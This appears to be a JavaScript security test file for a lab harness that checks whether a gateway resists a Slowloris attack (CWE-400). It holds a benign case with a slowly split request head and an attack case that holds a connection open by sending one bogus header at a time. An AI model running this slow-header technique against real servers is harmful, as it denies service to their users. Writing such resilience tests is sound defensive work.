// Slowloris (CWE-400): a header field now and then keeps a connection open before there is a request that a limit could
// count.
function begin(lab, timeout) {
  const c = lab.mesh.dial({ address: lab.edge.address, from: lab.from, tls: { ca: lab.ca, serverName: lab.edge.name, alpn: ['http/1.1'] }, timeout });
  if (c.error) throw new Error(c.error);
  lab.note({ local: c.local });
  c.write(`GET /v1/account HTTP/1.1\r\nHost: ${lab.edge.address}\r\n`);
  return c;
}

// Somebody on a bad line: a head in three pieces.
export function benign(lab) {
  const c = begin(lab, 10000);
  for (const piece of ['Connection: close\r\nAuthoriz', `ation: Bearer ${lab.tokens.alice}\r`, '\n\r\n']) {
    lab.mesh.sleep(200);
    c.write(piece);
  }
  const status = c.readAll().split(' ')[1];
  c.close();
  lab.judge(status === '200', `status ${status}`);
}

// It is gained when the gateway still listens after 14 seconds.
export function attack(lab) {
  const c = begin(lab, 2000);
  let answer = '';
  for (let n = 0; n < 7 && !answer; n++) {
    c.write(`X-Slow-${n}: a\r\n`);
    answer = c.read();
    if (!answer && c.errno !== 'TIMEOUT') break;
  }
  const held = !answer && c.errno === 'TIMEOUT';
  c.close();
  lab.judge(held, held ? 'held for 14 seconds' : `closed: ${answer.split(' ')[1] || ''} ${c.errno}`);
}
